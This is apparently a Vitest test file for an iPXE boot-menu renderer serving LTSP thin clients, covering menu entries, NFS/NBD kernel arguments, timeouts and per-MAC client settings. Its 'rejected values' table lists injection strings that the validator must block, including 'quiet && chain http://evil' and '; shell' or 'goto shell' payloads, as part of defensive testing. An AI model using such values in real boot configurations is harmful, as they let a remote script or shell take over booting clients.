import { describe, expect, it } from "vitest";
import { nbdRootArgument, renderIpxeMenu, type IpxeMenuOptions } from "../../tasks/lib/ipxe.ts";
import { InvalidValueError } from "../../tasks/lib/validate.ts";
import { runIpxeScript, type Machine } from "./ipxe-interpreter.ts";

const PC = { mac: "52:54:00:aa:bb:cc", proxyDhcpServer: "10.0.0.1", nextServer: "10.0.0.254" } satisfies Machine;

const basic: IpxeMenuOptions = {
  images: [{ name: "x86_64", title: "Debian 12" }, { name: "bookworm" }],
  chroots: [{ name: "jammy", title: "Ubuntu 22.04 chroot" }],
};

function lines(script: string): string[] {
  return script.split("\n");
}

describe("renderIpxeMenu: entries", () => {
  it("lists images sorted by name, then chroots as r_NAME, then the fixed entries", () => {
    const run = runIpxeScript(renderIpxeMenu(basic), { ...PC, pick: "x86_64" });
    const items = run.menu?.items.filter((item) => !item.gap && item.label).map((item) => [item.label, item.key, item.text]);
    expect(items).toEqual([
      ["bookworm", "1", "bookworm.img"],
      ["x86_64", "2", "Debian 12"],
      ["r_jammy", "3", "Ubuntu 22.04 chroot"],
      ["memtest", "m", "Memory test"],
      ["config", "c", "iPXE settings"],
      ["shell", "s", "iPXE shell"],
      ["disk", "d", "Boot from the first local disk"],
      ["exit", "x", "Exit iPXE and let the firmware try the next boot device"],
    ]);
  });

  it("is deterministic whatever the input order", () => {
    const shuffled: IpxeMenuOptions = {
      images: [...(basic.images ?? [])].reverse(),
      chroots: basic.chroots,
      clients: [
        { mac: "52:54:00:00:00:02", defaultImage: "bookworm" },
        { mac: "52:54:00:00:00:01", defaultImage: "x86_64" },
      ],
    };
    const reordered = { ...shuffled, images: basic.images, clients: [...(shuffled.clients ?? [])].reverse() };
    expect(renderIpxeMenu(shuffled)).toBe(renderIpxeMenu(reordered));
  });

  it("gives number keys only to the first ten entries", () => {
    const images = Array.from({ length: 12 }, (_, i) => ({ name: `img${String(i).padStart(2, "0")}` }));
    const run = runIpxeScript(renderIpxeMenu({ images }), PC);
    const keys = run.menu?.items.filter((item) => item.label?.startsWith("img")).map((item) => item.key);
    expect(keys).toEqual(["1", "2", "3", "4", "5", "6", "7", "8", "9", "0", undefined, undefined]);
  });

  it("leaves memtest out when asked", () => {
    const script = renderIpxeMenu({ ...basic, memtest: false });
    expect(script).not.toContain("memtest");
    expect(() => renderIpxeMenu({ ...basic, memtest: false, defaultImage: "memtest" })).toThrow(/ipxe\.defaultImage/);
  });
});

describe("renderIpxeMenu: what an entry boots", () => {
  it("boots an image over NFS from the proxyDHCP server, with initrds in order", () => {
    const run = runIpxeScript(renderIpxeMenu({ ...basic, kernelParameters: "quiet  splash" }), { ...PC, pick: "bookworm" });
    expect(run.outcome).toBe("boot");
    expect(run.kernel?.uri).toBe("/ltsp/bookworm/vmlinuz");
    expect(run.kernel?.args.trimEnd().split(" ")).toEqual([
      "initrd=ltsp.img",
      "initrd=initrd.img",
      "BOOTIF=01-52-54-00-aa-bb-cc",
      "root=/dev/nfs",
      "nfsroot=10.0.0.1:/srv/ltsp",
      "ltsp.image=images/bookworm.img",
      "loop.max_part=9",
      "quiet",
      "splash",
    ]);
    expect(run.initrds).toEqual(["/ltsp/ltsp.img", "/ltsp/bookworm/initrd.img"]);
    // The initrd= names must be the names iPXE gives the loaded files (their basenames).
    const named = run.kernel?.args.split(" ").filter((arg) => arg.startsWith("initrd=")).map((arg) => arg.slice(7));
    expect(named).toEqual(run.initrds.map((uri) => uri.split("/").pop()));
  });

  it("uses next-server when no proxyDHCP server answered, or a fixed server", () => {
    const direct = runIpxeScript(renderIpxeMenu(basic), { mac: PC.mac, nextServer: "192.168.67.1", pick: "bookworm" });
    expect(direct.kernel?.args).toContain("nfsroot=192.168.67.1:/srv/ltsp ");
    const fixed = runIpxeScript(renderIpxeMenu({ ...basic, server: "10.9.9.9" }), { ...PC, pick: "bookworm" });
    expect(fixed.kernel?.args).toContain("nfsroot=10.9.9.9:/srv/ltsp ");
  });

  it("boots a chroot as an NFS root under BASE_DIR", () => {
    const run = runIpxeScript(renderIpxeMenu({ ...basic, baseDir: "/opt/ltsp/" }), { ...PC, pick: "r_jammy" });
    expect(run.kernel?.uri).toBe("/ltsp/jammy/vmlinuz");
    expect(run.kernel?.args.trimEnd()).toBe(
      "initrd=ltsp.img initrd=initrd.img BOOTIF=01-52-54-00-aa-bb-cc root=/dev/nfs nfsroot=10.0.0.1:/opt/ltsp/jammy",
    );
    expect(run.initrds).toEqual(["/ltsp/ltsp.img", "/ltsp/jammy/initrd.img"]);
  });

  it("boots an NBD image from its own server, port and export name", () => {
    const script = renderIpxeMenu({
      images: [
        { name: "nbdimg", boot: { method: "nbd", server: "10.0.0.7", exportName: "ltsp/nbdimg" }, tftpBase: "tftp://10.0.0.9" },
        { name: "oldport", boot: { method: "nbd", server: "10.0.0.8", port: 2000 } },
        { name: "here", boot: { method: "nbd" } },
        { name: "nfsaway", boot: { method: "nfs", server: "10.0.0.5", baseDir: "/export/ltsp" } },
      ],
    });
    const nbd = runIpxeScript(script, { ...PC, pick: "nbdimg" });
    expect(nbd.kernel?.uri).toBe("tftp://10.0.0.9/ltsp/nbdimg/vmlinuz");
    expect(nbd.kernel?.args.trimEnd()).toBe(
      "initrd=ltsp.img initrd=initrd.img BOOTIF=01-52-54-00-aa-bb-cc root=/dev/nbd0 nbdroot=10.0.0.7:10809/ltsp/nbdimg",
    );
    expect(nbd.initrds).toEqual(["tftp://10.0.0.9/ltsp/ltsp.img", "tftp://10.0.0.9/ltsp/nbdimg/initrd.img"]);
    expect(runIpxeScript(script, { ...PC, pick: "oldport" }).kernel?.args).toContain(" root=/dev/nbd0 nbdroot=10.0.0.8:2000/oldport");
    expect(runIpxeScript(script, { ...PC, pick: "here" }).kernel?.args).toContain(" nbdroot=10.0.0.1:10809/here");
    const nfs = runIpxeScript(script, { ...PC, pick: "nfsaway" });
    expect(nfs.kernel?.args).toContain(" root=/dev/nfs nfsroot=10.0.0.5:/export/ltsp ltsp.image=images/nfsaway.img loop.max_part=9");
    expect(nfs.kernel?.uri).toBe("/ltsp/nfsaway/vmlinuz");
  });

  it("builds nbdroot= so Debian's initramfs script reads the right host, port and name", () => {
    // The parsing rules of /usr/share/initramfs-tools/scripts/local-top/nbd for HOST:PORT/NAME.
    const parse = (value: string) => {
      const host = value.startsWith("[") ? value.slice(1, value.indexOf("]")) : (value.split(/[:/]/)[0] ?? "");
      const rest = value.startsWith("[") ? value.slice(value.indexOf("]") + 2) : value.slice(host.length + 1);
      const port = rest.split("/")[0] ?? "";
      return { host, port, name: rest.slice(port.length + 1) };
    };
    expect(parse(nbdRootArgument("10.0.0.7", 10809, "bookworm"))).toEqual({ host: "10.0.0.7", port: "10809", name: "bookworm" });
    expect(parse(nbdRootArgument("fd00::7", 2000, "a/b"))).toEqual({ host: "fd00::7", port: "2000", name: "a/b" });
  });

  it("drops to the shell with a message when a file can't be loaded", () => {
    const run = runIpxeScript(renderIpxeMenu(basic), {
      ...PC,
      pick: "bookworm",
      fetchable: (uri) => !uri.endsWith("bookworm/initrd.img"),
    });
    expect(run.outcome).toBe("shell");
    expect(run.echoed.some((line) => line.includes("bookworm") && line.includes("failed"))).toBe(true);
  });

  it("runs memtest.0 on BIOS and memtest.efi on UEFI, and returns to the menu", () => {
    const bios = runIpxeScript(renderIpxeMenu(basic), { ...PC, platform: "pcbios", pick: "memtest" });
    expect(bios.kernel?.uri).toBe("memtest.0");
    const efi = runIpxeScript(renderIpxeMenu(basic), { ...PC, platform: "efi", pick: "memtest" });
    expect(efi.kernel?.uri).toBe("memtest.efi");
  });

  it("boots the local disk, exits, and opens the shell on cancel", () => {
    expect(runIpxeScript(renderIpxeMenu(basic), { ...PC, pick: "disk" }).outcome).toBe("sanboot");
    expect(runIpxeScript(renderIpxeMenu(basic), { ...PC, pick: "exit" }).outcome).toBe("exit");
    expect(runIpxeScript(renderIpxeMenu(basic), { ...PC, pick: "shell" }).outcome).toBe("shell");
    const cancelled = runIpxeScript(renderIpxeMenu(basic), { ...PC, cancel: true });
    expect(cancelled.outcome).toBe("shell");
    expect(cancelled.echoed.join("\n")).toMatch(/cancel/i);
    expect(renderIpxeMenu(basic)).toContain("sanboot --no-describe --drive 0x80");
  });
});

describe("renderIpxeMenu: default entry and timeout", () => {
  it("defaults to x86_64 or x86_32 by CPU, and a root-path overrides it", () => {
    const menu = renderIpxeMenu({ images: [{ name: "x86_64" }, { name: "x86_32" }, { name: "other" }] });
    expect(runIpxeScript(menu, PC).menu?.default).toBe("x86_64");
    expect(runIpxeScript(menu, { ...PC, cpu64: false }).menu?.default).toBe("x86_32");
    expect(runIpxeScript(menu, { ...PC, rootPath: "other" }).menu?.default).toBe("other");
    expect(runIpxeScript(menu, PC).kernel?.uri).toBe("/ltsp/x86_64/vmlinuz");
  });

  it("uses the configured default and waits 5000 ms by default", () => {
    const run = runIpxeScript(renderIpxeMenu({ ...basic, defaultImage: "r_jammy" }), PC);
    expect(run.menu?.default).toBe("r_jammy");
    expect(run.menu?.timeout).toBe("5000");
    expect(run.kernel?.uri).toBe("/ltsp/jammy/vmlinuz");
  });

  it("timeout 0 waits forever in the menu", () => {
    const run = runIpxeScript(renderIpxeMenu({ ...basic, timeout: 0 }), PC);
    expect(run.menu?.timeout).toBe("0");
  });

  it("timeout -1 boots the default entry without showing the menu", () => {
    const run = runIpxeScript(renderIpxeMenu({ ...basic, timeout: -1, defaultImage: "bookworm" }), PC);
    expect(run.menu).toBeUndefined();
    expect(run.outcome).toBe("boot");
    expect(run.kernel?.uri).toBe("/ltsp/bookworm/vmlinuz");
  });

  it("timeout -1 still shows the menu when the default entry does not exist", () => {
    const run = runIpxeScript(renderIpxeMenu({ images: [{ name: "bookworm" }], timeout: -1 }), PC);
    expect(run.menu).toBeDefined();
    expect(run.kernel?.uri).toBe("/ltsp/bookworm/vmlinuz");
  });

  it("rejects a default entry that is not in the menu, naming the choices", () => {
    expect(() => renderIpxeMenu({ ...basic, defaultImage: "jammy" })).toThrow(/ipxe\.defaultImage "jammy".*r_jammy/);
  });
});

describe("renderIpxeMenu: per-client sections", () => {
  const withClients: IpxeMenuOptions = {
    ...basic,
    defaultImage: "x86_64",
    kernelParameters: "quiet",
    clients: [
      { mac: "52:54:00:AA:BB:CC", defaultImage: "bookworm", kernelParameters: "nomodeset", timeout: -1, hostname: "pc01" },
      { mac: "52:54:00:00:00:09", timeout: 0 },
      { mac: "52:54:00:00:00:0a", kernelParameters: "" },
    ],
  };

  it("selects the client's image, parameters, timeout and host name by its MAC", () => {
    const script = renderIpxeMenu(withClients);
    expect(script).toContain(":mac-52-54-00-aa-bb-cc\n");
    const run = runIpxeScript(script, PC);
    expect(run.menu).toBeUndefined();
    expect(run.settings.get("hostname")).toBe("pc01");
    expect(run.kernel?.uri).toBe("/ltsp/bookworm/vmlinuz");
    expect(run.kernel?.args.endsWith(" nomodeset")).toBe(true);
    expect(run.kernel?.args).not.toContain("quiet");
  });

  it("leaves other clients on the global settings", () => {
    const run = runIpxeScript(renderIpxeMenu(withClients), { ...PC, mac: "52:54:00:12:34:56" });
    expect(run.menu?.default).toBe("x86_64");
    expect(run.menu?.timeout).toBe("5000");
    expect(run.kernel?.args.endsWith(" quiet")).toBe(true);
    const waiting = runIpxeScript(renderIpxeMenu(withClients), { ...PC, mac: "52:54:00:00:00:09" });
    expect(waiting.menu?.timeout).toBe("0");
    expect(waiting.menu?.default).toBe("x86_64");
    const cleared = runIpxeScript(renderIpxeMenu(withClients), { ...PC, mac: "52:54:00:00:00:0a" });
    expect(cleared.kernel?.args).not.toContain("quiet");
  });

  it("can select by net0's MAC instead of the boot NIC's", () => {
    const script = renderIpxeMenu({ ...withClients, clientMac: "net0/mac" });
    const run = runIpxeScript(script, { ...PC, mac: "52:54:00:12:34:56", net0Mac: "52:54:00:aa:bb:cc" });
    expect(run.kernel?.uri).toBe("/ltsp/bookworm/vmlinuz");
    // BOOTIF still names the NIC that booted.
    expect(run.kernel?.args).toContain("BOOTIF=01-52-54-00-12-34-56");
  });

  it("rejects a MAC twice, a wildcard MAC, and an unknown client default", () => {
    expect(() => renderIpxeMenu({ ...basic, clients: [{ mac: "52:54:00:aa:bb:cc", timeout: 1 }, { mac: "52-54-00-AA-BB-CC", timeout: 2 }] })).toThrow(
      /two entries named "mac-52-54-00-aa-bb-cc"/,
    );
    expect(() => renderIpxeMenu({ ...basic, clients: [{ mac: "52:54:00:*:*:*", timeout: 1 }] })).toThrow(/ipxe\.clients\[0\]\.mac.*wildcard/);
    expect(() => renderIpxeMenu({ ...basic, clients: [{ mac: "52:54:00:aa:bb:cc", defaultImage: "nope" }] })).toThrow(
      /ipxe\.clients\.52:54:00:aa:bb:cc\.defaultImage "nope"/,
    );
  });
});

describe("renderIpxeMenu: rejected values", () => {
  const cases: Array<[string, IpxeMenuOptions, RegExp]> = [
    ["newline in a title", { images: [{ name: "a", title: "Debian\n:mac-00" }] }, /ipxe\.images\.a\.title .*line break/],
    ["setting expansion in a title", { images: [{ name: "a", title: "x ${net0/ip}" }] }, /ipxe\.images\.a\.title .*\$\{/],
    ["command separator in a title", { images: [{ name: "a", title: "x || shell" }] }, /ipxe\.images\.a\.title .*"\|\|"/],
    ["comment in a title", { images: [{ name: "a", title: "A #1" }] }, /ipxe\.images\.a\.title .*"#"/],
    ["option-like menu title", { title: "--help" }, /ipxe\.title .*option/],
    ["&& in kernel parameters", { kernelParameters: "quiet && chain http://evil" }, /ipxe\.kernelParameters .*"&&"/],
    ["; in kernel parameters", { kernelParameters: "quiet ; shell" }, /ipxe\.kernelParameters .*";"/],
    ["newline in kernel parameters", { kernelParameters: "quiet\ngoto shell" }, /ipxe\.kernelParameters .*line break/],
    ["expansion in kernel parameters", { kernelParameters: "a=${srv}" }, /ipxe\.kernelParameters .*\$\{/],
    ["trailing backslash in kernel parameters", { kernelParameters: "quiet \\" }, /ipxe\.kernelParameters .*line continuation/],
    ["unbalanced quote in kernel parameters", { kernelParameters: 'a="b c' }, /ipxe\.kernelParameters .*quote/],
    ["client kernel parameters", { clients: [{ mac: "52:54:00:aa:bb:cc", kernelParameters: "x\r\nboot" }] }, /ipxe\.clients\.52:54:00:aa:bb:cc\.kernelParameters/],
    ["hostname with a space", { clients: [{ mac: "52:54:00:aa:bb:cc", hostname: "pc 1" }] }, /ipxe\.clients\.52:54:00:aa:bb:cc\.hostname .*space/],
    ["hostname with a quote", { clients: [{ mac: "52:54:00:aa:bb:cc", hostname: 'pc"1' }] }, /hostname/],
    ["image name with a space", { images: [{ name: "a b" }] }, /ipxe\.images\[0\]\.name "a b"/],
    ["image name with a newline", { images: [{ name: "a\nset x" }] }, /ipxe\.images\[0\]\.name/],
    ["base dir with a comma", { baseDir: "/srv/ltsp,vers=3" }, /ipxe\.baseDir .*","/],
    ["base dir with a space", { baseDir: "/srv/my ltsp" }, /ipxe\.baseDir .*space/],
    ["relative base dir", { baseDir: "srv/ltsp" }, /ipxe\.baseDir .*absolute/],
    ["server name instead of address", { server: "boot.example" }, /ipxe\.server .*IPv4/],
    ["NBD export with a space", { images: [{ name: "a", boot: { method: "nbd", exportName: "a b" } }] }, /ipxe\.images\.a\.boot\.exportName/],
    ["NBD export with brackets", { images: [{ name: "a", boot: { method: "nbd", exportName: "[generic]" } }] }, /exportName .*"\["/],
    ["NBD port out of range", { images: [{ name: "a", boot: { method: "nbd", port: 70000 } }] }, /ipxe\.images\.a\.boot\.port 70000/],
    ["TFTP base that is not a URL", { tftpBase: "10.0.0.9" }, /ipxe\.tftpBase .*URL/],
    ["TFTP base with expansion", { images: [{ name: "a", tftpBase: "tftp://${srv}" }] }, /ipxe\.images\.a\.tftpBase/],
    ["image named like a built-in entry", { images: [{ name: "shell" }] }, /two entries named "shell"/],
    ["image clashing with a chroot id", { images: [{ name: "r_x" }], chroots: [{ name: "x" }] }, /two entries named "r_x"/],
    ["timeout below -1", { timeout: -2 }, /ipxe\.timeout -2/],
    ["fractional timeout", { timeout: 1.5 }, /ipxe\.timeout 1\.5: .*whole number/],
  ];
  for (const [what, options, message] of cases) {
    it(`rejects ${what}`, () => {
      let error: unknown;
      try {
        renderIpxeMenu(options);
      } catch (caught) {
        error = caught;
      }
      expect(error).toBeInstanceOf(Error);
      expect((error as Error).message).toMatch(message);
    });
  }

  it("reports the field and value on the error object", () => {
    try {
      renderIpxeMenu({ images: [{ name: "a", title: "x\ny" }] });
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(InvalidValueError);
      expect((error as InvalidValueError).field).toBe("ipxe.images.a.title");
      expect((error as InvalidValueError).value).toBe("x\ny");
    }
  });

  it("collapses runs of spaces in titles the way iPXE shows them", () => {
    const script = renderIpxeMenu({ images: [{ name: "a", title: "  Debian   12  " }] });
    expect(lines(script)).toContain("item --key 1 a Debian 12");
  });

  it("writes no trailing whitespace and ends with a newline", () => {
    const script = renderIpxeMenu({ ...basic, clients: [{ mac: "52:54:00:aa:bb:cc", kernelParameters: "" }] });
    expect(script.endsWith("\n")).toBe(true);
    for (const line of lines(script)) expect(line).toBe(line.trimEnd());
  });
});
